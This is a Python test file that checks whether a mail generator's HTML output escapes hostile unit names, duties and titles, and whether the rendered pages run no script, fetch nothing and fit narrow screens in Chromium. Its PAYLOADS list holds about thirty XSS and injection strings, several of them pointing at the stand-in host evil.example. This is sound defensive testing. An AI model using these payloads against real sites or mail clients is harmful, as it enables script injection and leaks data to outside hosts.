"""The HTML of a mail in Chromium: hostile names run nothing, fetch nothing, and no screen is too narrow."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from gen.tell import Failed
from gen.tell.letter import on_news, on_trouble
from gen.tell.notice import notice
from tests.builders import snapshot, unit
from tests.render.browser import Desk, chromium
from tests.report import sample
from tests.tell.made import NOW, config, failures, mail, news
from tests.tell.test_letter import text_of

PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)' autofocus onfocus=alert(1)>x</a>",
    '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", "</bdi></li></ul></main><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "javascript:alert(1)//", "{{7*7}}{% raw %}", "${alert(1)}",
    "<style>@import 'http://evil.example/x.css';</style>", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=q autofocus></form>", "<object data=http://evil.example></object>",
    "<video src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>", "\u2028<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    "<math><mtext></p><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>",
)  # fmt: skip


def hostile(out: Path) -> str:
    """The mail on a briefing whose units, groups and duties all bear a payload."""
    from gen.model.change import Changes
    from gen.model.record import Text
    from gen.report.build import build

    old = snapshot(release="2019")
    new = snapshot(*(unit(Text(zh=name), id=f"u{n}", group=name) for n, name in enumerate(PAYLOADS)), release="2022")
    changes: list[Any] = [
        sample.change(f"U{n}", "unit", "added", new=sample.of(new, name)) for n, name in enumerate(PAYLOADS, 1)
    ]
    for n, said in enumerate(PAYLOADS, 1):
        sides = (sample.of_duty(sample.duty(Text(zh=said), "（一）")),)
        changes.append(
            sample.change(f"D{n}", "duty", "amended", old=sides, new=sides, redline=(("-", said), ("+", said)))
        )
    found = Changes(old=sample.CHANGES.old, new=sample.CHANGES.new, changes=tuple(changes))
    report = build(found, old, new, "zh")._replace(body=PAYLOADS[0], title=PAYLOADS[9], lead=PAYLOADS[8])
    made = on_news(news(out, said=report, changes=found), config(out, site="https://x.example"), mail(25), NOW)
    return text_of(made, "html")


def troubled() -> str:
    due = notice(failures(*(Failed(f"b{n}", "failed", (name,)) for n, name in enumerate(PAYLOADS))), "mail", NOW)
    assert due is not None
    return text_of(on_trouble(due, "zh", mail(25), NOW), "html")


def test_no_payload_becomes_markup(tmp_path: Path) -> None:
    import re

    for page in (hostile(tmp_path), troubled()):
        assert set(re.findall(r"<([a-z0-9]+)", page)) <= {
            "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "table", "tr", "th", "td", "ul",
            "li", "span", "bdi", "div", "del", "ins", "a",
        }  # fmt: skip
        assert set(re.findall(r'<a href="([^":]*:)', page)) <= {"https:"}
        assert page.count("<style>") == page.count("<title>") == 1


@pytest.mark.real
def test_hostile_names_run_nothing_and_fetch_nothing_and_fit_every_screen(tmp_path: Path) -> None:
    pages = {"news": hostile(tmp_path), "trouble": troubled()}
    with chromium() as browser:
        for name, page in pages.items():
            (tmp_path / f"{name}.html").write_text(page, encoding="utf-8")
            # Mail programs drop the policy: without it nothing may run either.
            bare = page.replace("Content-Security-Policy", "X-Nothing")
            (tmp_path / f"{name}-bare.html").write_text(bare, encoding="utf-8")
            for file in (f"{name}.html", f"{name}-bare.html"):
                made = Desk(browser, (tmp_path / file).as_uri())
                for width in (320, 1280):
                    made.page.set_viewport_size({"width": width, "height": 700})
                    made.settle()
                    across = made.page.evaluate("() => document.documentElement.scrollWidth - innerWidth")
                    assert across <= 0
                assert made.page.evaluate("() => document.scripts.length + document.images.length") == 0
                assert "<script>alert(1)</script>" in made.page.locator("body").inner_text()
                assert (made.errors, made.requests) == ([], [])
                made.context.close()


@pytest.mark.real
@pytest.mark.parametrize("language", ["zh", "en"])
def test_the_heads_of_the_table_stand_on_one_line_and_the_page_goes_no_wider(tmp_path: Path, language: Any) -> None:
    made = on_news(news(tmp_path, language=language), config(tmp_path), mail(25), NOW)
    (tmp_path / "mail.html").write_text(text_of(made, "html"), encoding="utf-8")
    with chromium() as browser:
        desk = Desk(browser, (tmp_path / "mail.html").as_uri())
        desk.page.set_viewport_size({"width": 400, "height": 700})
        desk.settle()
        heights = desk.page.evaluate("() => [...document.querySelectorAll('th, td')].map(cell => cell.offsetHeight)")
        assert max(heights) < 1.5 * min(heights)
        assert desk.page.evaluate("() => document.documentElement.scrollWidth - innerWidth") <= 0
        desk.context.close()
